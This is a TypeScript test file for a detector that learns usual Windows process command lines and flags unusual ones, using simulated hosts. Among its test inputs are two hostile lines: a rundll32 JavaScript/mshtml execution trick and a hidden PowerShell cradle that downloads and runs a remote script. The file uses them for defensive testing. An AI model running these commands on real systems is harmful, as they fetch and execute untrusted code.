import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { Chance } from '../../../test/support/chance.ts';
import { DAY, HOUR, MONDAY, PlainPast, sighting } from '../../../test/support/sighting.ts';
import type { Baseline, Surprise } from './baseline.ts';
import { commandLine } from './command-line.ts';
import { plainLine } from './plain-line.ts';

const run = (at: number, host: string, image: string, line: string) =>
  sighting('process_start', at, { host, user: `p-${host}`, image, commandLine: line });

const verbs = ['get', 'set', 'update', 'sync', 'check', 'clean', 'export', 'import'];
const nouns = ['mail', 'users', 'stock', 'orders', 'backup', 'printers', 'reports', 'logs', 'cache', 'index'];

/** Programs with fixed lines, with lines of numbers and names, and scripts that people keep writing. */
function life(hosts: number, days: number, seed: number) {
  const random = new Chance(seed);
  const baseline = commandLine(new PlainPast());
  const said: Surprise[] = [];
  let programDays = 0;
  const pick = (list: readonly string[]) => list[random.below(list.length)] ?? '';
  const see = (one: ReturnType<typeof run>) => said.push(...baseline.see(one));
  for (let day = 0; day < days; day += 1) {
    programDays += 5;
    for (let host = 0; host < hosts; host += 1) {
      const at = MONDAY + day * DAY + 8 * HOUR + random.below(8 * HOUR);
      const name = `pc${host}`;
      see(run(at, name, 'svchost.exe', `C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Svc${host % 9}x`));
      see(
        run(at, name, 'rundll32.exe', `rundll32.exe shell32.dll,Control_RunDLL ${pick(nouns)}.cpl,,${random.below(9)}`),
      );
      see(
        run(
          at,
          name,
          'chrome.exe',
          `"C:\\Program Files\\Google\\chrome.exe" --type=renderer --client-id=${random.below(1e6)} --handle=${random.below(1e6)}`,
        ),
      );
      see(
        run(
          at,
          name,
          'winword.exe',
          `winword.exe /n "C:\\Users\\person${host}\\Documents\\${pick(verbs)} ${pick(nouns)} ${pick(nouns)} ${random.below(99)}.docx"`,
        ),
      );
      if (random.next() < 0.2)
        see(
          run(
            at,
            name,
            'powershell.exe',
            `powershell.exe -File C:\\scripts\\${pick(verbs)}-${pick(nouns)}.ps1 -${pick(nouns)} ${pick(verbs)}${pick(nouns)}${random.below(500)}`,
          ),
        );
    }
  }
  return { baseline, said, programDays };
}

describe('command lines', () => {
  it('says so when a program is started as it never was', () => {
    const { baseline } = life(60, 30, 1);
    const at = MONDAY + 30 * DAY;
    const [surprise] = baseline.see(
      run(at, 'pc7', 'rundll32.exe', 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";eval(x)'),
    );
    expect(surprise?.p).toBeLessThan(0.01);
    expect(surprise?.text).toMatch(
      /^in 30 days rundll32\.exe had no such command line: ".{32}" costs \d\.\d bits a character, /,
    );
    const [script] = baseline.see(
      run(
        at,
        'pc8',
        'powershell.exe',
        'powershell.exe -nop -w hidden IEX((New-Object Net.WebClient).DownloadString("http://x/y"))',
      ),
    );
    expect(script?.p).toBeLessThan(0.05);
  });

  it('is silent about new documents, numbers, scripts of the usual sort, a new program and a new host', () => {
    const { baseline } = life(60, 30, 2);
    const at = MONDAY + 30 * DAY;
    const asks = [
      run(at, 'new host', 'svchost.exe', 'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Svc4x'),
      run(
        at,
        'pc3',
        'winword.exe',
        'winword.exe /n "C:\\Users\\somebody new\\Documents\\clean printers logs 2031.docx"',
      ),
      run(at, 'pc3', 'chrome.exe', '"C:\\Program Files\\Google\\chrome.exe" --type=renderer --client-id=77 --handle=1'),
      run(at, 'pc3', 'powershell.exe', 'powershell.exe -File C:\\scripts\\check-orders.ps1 -stock syncmail7'),
      run(at, 'pc3', 'newtool.exe', 'newtool.exe --do {anything} %strange%'),
    ];
    expect(asks.flatMap((one) => baseline.see(one).map(({ text }) => text))).toEqual([]);
  });

  it('says about as often as p says, in 60 days of normal life', () => {
    let [days, small, middling, all] = [0, 0, 0, 0];
    for (let seed = 10; seed < 22; seed += 1) {
      const { said, programDays } = life(30, 60, seed);
      days += programDays;
      all += said.length;
      small += said.filter(({ p }) => p < 0.001).length;
      middling += said.filter(({ p }) => p < 0.01).length;
    }
    if (process.env.SHOW === '1') console.info({ days, p001: small, p01: middling, all });
    expect(small).toBeLessThanOrEqual(Math.max(4, 2 * 0.001 * days));
    expect(middling).toBeLessThanOrEqual(2 * 0.01 * days);
  });

  it('a flood of strange lines on one day does not make strange lines usual; a threat is unlearned', () => {
    const { baseline } = life(60, 30, 3);
    const at = MONDAY + 30 * DAY;
    const strange = 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";eval(x)';
    let said = 0;
    const word = (one: number) =>
      Array.from({ length: 30 }, (_, at) => 'qxzjkvw{}%'[(one * 7 + at * at) % 10]).join('');
    for (let one = 0; one < 2000; one += 1)
      said += baseline.see(run(at + one, 'pc7', 'rundll32.exe', `rundll32.exe ${word(one)}`)).length;
    expect(said).toBeLessThanOrEqual(3);
    const [after] = baseline.see(run(at + DAY, 'pc8', 'rundll32.exe', strange));
    expect(after?.p ?? 1).toBeLessThan(0.05);
    expect(baseline.see(run(at + DAY, 'pc9', 'rundll32.exe', strange))).toEqual([]);
    const entities = [{ kind: 'host' as const, value: 'pc8' }];
    baseline.unlearn({ tenant: 'acme', entities, from: at, to: at + 2 * DAY });
    expect(baseline.see(run(at + 2 * DAY, 'pc9', 'rundll32.exe', strange)).length).toBe(1);
  });

  it('comes back from its pages as it was, within its memory', () => {
    const { baseline } = life(30, 20, 4);
    const back = commandLine(new PlainPast());
    back.restore(new Map([...baseline.pages()].map(([name, page]) => [name, page.slice()] as const)));
    const ask = (one: Baseline) =>
      ['rundll32.exe', 'winword.exe', 'svchost.exe', 'powershell.exe']
        .flatMap((image) => one.see(run(MONDAY + 20 * DAY, 'pc1', image, `${image} %%{{~}}~~ ..//..// ^^ ;;`)))
        .map(({ key, p, text }) => [key, p, text]);
    const expected = ask(baseline);
    expect(expected.length).toBeGreaterThan(1);
    expect(ask(back)).toEqual(expected);
    const flood = commandLine(new PlainPast());
    for (let each = 0; each < 30_000; each += 1)
      flood.see(run(MONDAY + each * 1000, `h${each}`, `p${each}.exe`, `p ${each.toString(26)}`));
    if (process.env.SHOW === '1') console.info('bytes', flood.bytes);
    expect(flood.bytes).toBeLessThan(45e6);
  });

  it('blanks what changes daily, in bounded size, whatever it is given', () => {
    const blank = (line: string) => plainLine(line, ['jdoe', 'ws07']);
    expect(blank('X /id:4711 {01234567-89AB-cdef-0123-456789abcdef} C:\\Users\\Ann Lee\\a.txt \\\\WS07\\c$')).toBe(
      blank('x  /id:9 {aaaabbbb-89AB-cdef-0123-456789abc000} c:\\users\\bob\\a.txt \\\\ws07\\c$'),
    );
    expect(blank('run abc')).not.toBe(blank('run abd'));
    fc.assert(fc.property(fc.string({ maxLength: 5000 }), (line) => plainLine(line).length <= 384));
    expect(plainLine('A1b'.repeat(1e6)).length).toBeLessThanOrEqual(384);
  });
});
